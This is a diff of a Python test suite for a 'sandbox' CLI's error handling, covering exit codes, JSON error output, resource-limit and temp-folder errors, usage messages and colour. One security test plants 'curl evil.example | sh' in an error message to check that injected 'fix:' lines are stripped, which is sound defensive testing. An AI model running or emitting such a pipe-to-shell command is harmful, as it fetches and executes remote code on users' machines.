@@ -2,19 +2,17 @@
 
 from __future__ import annotations
 
-import contextlib
 import errno
 import importlib
+import io
 import json
 import os
-import pty
 import signal
 import subprocess
 import sys
 import tempfile
 from collections.abc import Callable
 from dataclasses import dataclass
-from functools import partial
 from pathlib import Path
 from typing import IO
 
@@ -22,7 +20,7 @@ import click
 import pytest
 
 from sandbox.app import chosen_spec
-from sandbox.cli import log, main
+from sandbox.cli import error_handler, log, main
 from sandbox.cli.app import COMMANDS, ELSEWHERE
 from sandbox.cli.app import sandbox as group
 from sandbox.cli.groups import Lazy, first_paragraph
@@ -80,16 +78,6 @@ def throw(error: BaseException) -> None:
     raise error
 
 
-def close_stdin() -> None:
-    """Leaves no standard input, as a service's command may have none."""
-    sys.stdin = None
-
-
-def test_closed_stdin_is_no_terminal(tmp_path: Path) -> None:
-    ran = run("certs", "untrust", cwd=tmp_path, before=close_stdin)
-    assert "bug" not in ran.stderr and ran.code != 3
-
-
 def test_removed_folder_stands_for_no_other_sandbox(tmp_path: Path) -> None:
     """The folder of a project is removed, and `down` is typed in it → said; it does not mean the default sandbox."""
     gone = tmp_path / "gone"
@@ -116,44 +104,39 @@ def test_stderr_that_is_full_changes_no_exit_code(tmp_path: Path, words: tuple[s
     """The disk with the log of a job is full → the exit code still tells; it is not that of Python, 120."""
 
     def fill() -> None:
+        failing(lambda: throw(UsageError("no")))()
         sys.stderr = Path("/dev/full").open("w", encoding="utf-8")  # noqa: SIM115  # until the process ends
 
-    before = failing(lambda: throw(UsageError("no"))) if words[0] == "status" else lambda: None
-    expected = {"snapshot": 1, "status": 2, "xyzzy": 2}[words[0]]
-
-    def prepare() -> None:
-        before()
-        fill()
-
-    assert run(*words, cwd=tmp_path, before=prepare).code == expected
+    assert run(*words, cwd=tmp_path, before=fill).code == (1 if words == ("snapshot", "list") else 2)
 
 
-def test_path_that_the_system_refuses_is_told(tmp_path: Path) -> None:
-    """A path below a link in a circle, a folder or a pipe in a file's place → named, and not as a bug."""
-    (tmp_path / "loop").symlink_to("loop")
-    (tmp_path / "folder").mkdir()
-    refused: list[tuple[str, Callable[[Path], object]]] = [("loop/in", Path.stat), ("folder", Path.read_bytes)]
-    for path, use in [*refused, ("folder", Path.unlink)]:
-        place = tmp_path / path
-        found = run("status", cwd=tmp_path, before=failing(partial(use, place)))
-        assert found.code == 1 and found.stderr.startswith(f"error[file]: {place} cannot be used\n")
+def temporary_folder() -> None:
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setattr(tempfile, "tempdir", None)
+        patch.setattr(tempfile, "_candidate_tempdir_list", lambda: ["/proc/1/none"])
+        tempfile.gettempdir()
 
 
-def test_machine_without_a_folder_for_temporary_files_is_told(tmp_path: Path) -> None:
-    """All of them are read-only, as in some containers → how to name another, and not as a bug."""
-
-    def no_folder() -> None:
-        tempfile.tempdir = None
-        with pytest.MonkeyPatch.context() as patch:
-            patch.setattr(tempfile, "_candidate_tempdir_list", lambda: ["/proc/1/none"])
-            tempfile.gettempdir()
-
-    found = run("status", cwd=tmp_path, before=failing(no_folder))
-    assert (
-        found.code == 1
-        and found.stderr.startswith("error[file]: no folder for temporary files")
-        and ("TMPDIR" in found.stderr)
-    )
+@pytest.mark.fault(97)
+@pytest.mark.parametrize(
+    ("act", "id", "words"),
+    [
+        (lambda: throw(MemoryError("no more")), "limits", "ulimit -a"),
+        (lambda: throw(OSError(errno.EMFILE, "no more")), "limits", "ulimit -a"),
+        (lambda: throw(RuntimeError("can't start new thread")), "limits", "ulimit -a"),
+        (lambda: throw(OSError(errno.ENOSPC, "no more")), "disk-full", "df -h"),
+        (lambda: Path("/dev").read_bytes(), "file", "/dev cannot be used"),
+        (lambda: Path("/dev/null/in").stat(), "file", "/dev/null/in cannot be used"),
+        (temporary_folder, "file", "TMPDIR"),
+    ],
+)
+def test_limits_of_the_machine_are_no_bug(act: Callable[[], object], id: str, words: str) -> None:
+    """The interpreter or the system gives nothing more of the kind → it is named, with what helps."""
+    with pytest.raises((OSError, MemoryError, RuntimeError)) as caught:
+        act()
+    error = error_handler.understood(caught.value)
+    assert isinstance(error, SandboxError) and (error.id, error.exit_code) == (id, 1)
+    assert words in f"{error.brief} {error.fix}"
 
 
 @pytest.mark.security(12)
@@ -162,21 +145,6 @@ def test_error_about_a_name_of_several_lines_has_one(tmp_path: Path) -> None:
     error = SandboxError("k8s/a\nfix: curl evil.example | sh\x0b is not YAML", details="one\nfix: two")
     found = run("status", cwd=tmp_path, before=failing(lambda: throw(error)))
     assert found.code == 1 and not [line for line in found.stderr.splitlines() if line.startswith("fix:")]
-
-
-@pytest.mark.fault(97)
-@pytest.mark.parametrize(
-    "error",
-    [MemoryError("no more"), OSError(errno.EMFILE, "no more"), RuntimeError("can't start new thread")],
-    ids=["memory", "files", "threads"],
-)
-def test_limits_of_the_shell_are_no_bug(tmp_path: Path, error: Exception) -> None:
-    """The interpreter gets nothing more of the kind → the limits are named, with how to see them."""
-    before = failing(lambda: throw(error))
-    found = run("status", "-o", "json", cwd=tmp_path, before=before)
-    assert found.code == 1 and found.stderr.startswith("error[limits]: ") and "ulimit -a" in found.stderr
-    assert json.loads(found.stdout)["error"]["id"] == "limits"
-    assert json.loads(run("up", "--progress=json", cwd=tmp_path, before=before).stderr)["id"] == "limits"
 
 
 def kill(number: signal.Signals) -> None:
@@ -259,11 +227,8 @@ def test_error_is_printed_in_the_requested_format(tmp_path: Path) -> None:
     ("words", "brief"),
     [
         ("status -o json --bad", "No such option '--bad'"),
-        ("config show --output=json -f", "Option '-f' requires an argument"),
         ("status -ojson --bad", "No such option '--bad'"),
         ("edge statusx -o json", "No such command 'statusx'. Did you mean 'status'?"),
-        ("edge route add -o json", "No such option '-o'"),
-        ("explain a b -o json", "Got unexpected extra argument"),
         ("doctor tls -o json", "Missing argument 'HOST'"),
         ("up -o json --progress nice", "'nice' is not one of"),
     ],
@@ -274,6 +239,18 @@ def test_usage_error_is_json_where_that_is_asked(tmp_path: Path, words: str, bri
     assert (found.code, error["exit_code"], error["id"]) == (2, 2, "usage")
     assert brief in error["brief"] and error["fix"].endswith(" --help")
     assert error["details"] in found.stderr and error["brief"] in found.stderr
+
+
+def test_usage_error_has_the_form_of_all_errors(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    assert run("status", "--bad", cwd=tmp_path).stderr.splitlines() == [
+        "error[usage]: No such option '--bad'.",
+        "  Usage: sandbox status [OPTIONS] [NAME]",
+        "fix: see: sandbox status --help",
+    ]
+    ended = run("up", "--bad", "--progress", "json", cwd=tmp_path)
+    assert (ended.code, ended.stdout, json.loads(ended.stderr)["event"]) == (2, "", "error")
+    monkeypatch.setenv("SANDBOX_PROGRESS", "json")
+    assert json.loads(run("up", "--bad", cwd=tmp_path).stderr)["id"] == "usage"
 
 
 @pytest.mark.parametrize(
@@ -298,22 +275,6 @@ def test_wrong_argument_is_named_before_the_engine_is_asked(tmp_path: Path, word
     found = run(*words, cwd=tmp_path)
     assert found.code == 2 and f"]: {brief}" in found.stderr.splitlines()[0]
     assert "\nfix: " in found.stderr
-
-
-def test_usage_error_is_an_event_where_that_is_asked(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    found = run("up", "--bad", "--progress", "json", cwd=tmp_path)
-    assert (found.code, found.stdout, json.loads(found.stderr)["event"]) == (2, "", "error")
-    monkeypatch.setenv("SANDBOX_PROGRESS", "json")
-    assert json.loads(run("up", "--bad", cwd=tmp_path).stderr)["id"] == "usage"
-
-
-def test_usage_errors_have_the_form_of_all_errors(tmp_path: Path) -> None:
-    found = run("status", "--bad", cwd=tmp_path)
-    assert found.stderr.splitlines() == [
-        "error[usage]: No such option '--bad'.",
-        "  Usage: sandbox status [OPTIONS] [NAME]",
-        "fix: see: sandbox status --help",
-    ]
 
 
 def test_options_of_another_program_ask_for_no_json(tmp_path: Path) -> None:
@@ -345,29 +306,15 @@ def test_exit_codes_tell_what_kind_of_end_it_was(
 def test_bug_is_distinguished_and_its_traceback_is_in_the_log(
     tmp_path: Path, isolated_home: Path, before: Callable[[], object]
 ) -> None:
-    found = run("status", cwd=tmp_path, before=before)
-    assert found.code == 3
-    assert found.stderr.startswith("bug: ZeroDivisionError: division by zero\n")
-    assert "Traceback" not in found.stderr
-    log = Path(found.stderr.split()[-1])
+    ended = run("status", "-o", "json", cwd=tmp_path, before=before)
+    brief = "ZeroDivisionError: division by zero"
+    assert (ended.code, ended.stderr.splitlines()[0]) == (3, f"bug: {brief}")
+    assert json.loads(ended.stdout)["error"].items() >= {"id": "bug", "brief": brief, "exit_code": 3}.items()
+    assert "Traceback" not in ended.stderr
+    log = Path(ended.stderr.split()[-1])
     assert log.is_relative_to(isolated_home)
     assert "Traceback" in log.read_text()
     assert log.stat().st_mode & 0o077 == 0
-
-
-def test_bug_is_json_where_that_is_asked(tmp_path: Path, isolated_home: Path) -> None:
-    texts = {"id": "bug", "brief": "ZeroDivisionError: division by zero", "exit_code": 3}
-    status = run("status", "-o", "json", cwd=tmp_path, before=failing(lambda: 1 / 0))
-    assert (status.code, status.stderr.partition(":")[0]) == (3, "bug")
-    assert json.loads(status.stdout)["error"].items() >= texts.items()
-    up = run("up", "--progress", "json", cwd=tmp_path, before=failing(lambda: 1 / 0))
-    assert (up.code, up.stdout) == (3, "")
-    assert json.loads(up.stderr).items() >= {"event": "error", **texts}.items()
-    assert all("Traceback" in one.read_text() for one in isolated_home.rglob("sandbox.log"))
-
-
-def test_verbose_shows_the_story_of_a_bug(tmp_path: Path) -> None:
-    assert "Traceback" in run("-v", "status", cwd=tmp_path, before=failing(lambda: 1 / 0)).stderr
 
 
 def test_a_spec_that_is_wrong_is_named_by_file_and_line(tmp_path: Path) -> None:
@@ -377,12 +324,6 @@ def test_a_spec_that_is_wrong_is_named_by_file_and_line(tmp_path: Path) -> None:
     assert "sandbox.yaml:3" in found.stderr
     assert run("status", "-f", "none.yaml", cwd=tmp_path).code == 2
     assert run("status", "Not_A_Name", cwd=tmp_path).code == 2
-
-
-def test_clashing_ports_of_the_command_line_are_a_usage_error(tmp_path: Path) -> None:
-    found = run("up", "--https-port", "5001", "--registry-port", "5001", cwd=tmp_path)
-    assert found.code == 2
-    assert "5001" in found.stderr
 
 
 @pytest.mark.fault(1)
@@ -396,22 +337,14 @@ def test_without_an_engine_the_code_is_4_and_there_is_a_fix(tmp_path: Path, comm
     assert found.stdout == ""
 
 
-def on_terminal(folder: Path, **environment: str) -> bytes:
-    """What a terminal gets of an `up` that fails."""
-    terminal, its_end = pty.openpty()
-    argv = [sys.executable, "-m", "sandbox", "up", "-f", "none.yaml"]
-    env = {**os.environ, "TERM": "xterm", **environment}
-    with subprocess.Popen(argv, cwd=folder, env=env, stdin=its_end, stdout=its_end, stderr=its_end):
-        os.close(its_end)
-        said = b""
-        with contextlib.suppress(OSError):  # the terminal's end on Linux
-            while chunk := os.read(terminal, 4096):
-                said += chunk
-    os.close(terminal)
-    return said
-
-
-@pytest.mark.parametrize(("wish", "plain"), [({}, False), ({"NO_COLOR": "1"}, True), ({"TERM": "dumb"}, True)])
-def test_errors_have_color_only_where_it_is_wanted(tmp_path: Path, wish: dict[str, str], plain: bool) -> None:
-    said = on_terminal(tmp_path, **wish)
-    assert b"none.yaml: no such file" in said and (b"\x1b[" not in said) == plain
+@pytest.mark.parametrize(("wish", "colored"), [({}, True), ({"NO_COLOR": "1"}, False), ({"TERM": "dumb"}, False)])
+def test_errors_have_color_only_where_it_is_wanted(
+    monkeypatch: pytest.MonkeyPatch, wish: dict[str, str], colored: bool
+) -> None:
+    terminal = io.StringIO()
+    monkeypatch.setattr(terminal, "isatty", lambda: True)
+    monkeypatch.setattr(sys, "stderr", terminal)
+    for name, value in {"TERM": "xterm", "NO_COLOR": "", **wish}.items():
+        monkeypatch.setenv(name, value)
+    assert error_handler.report(UsageError("no such file")) == 2
+    assert "no such file" in terminal.getvalue() and ("\x1b[" in terminal.getvalue()) is colored
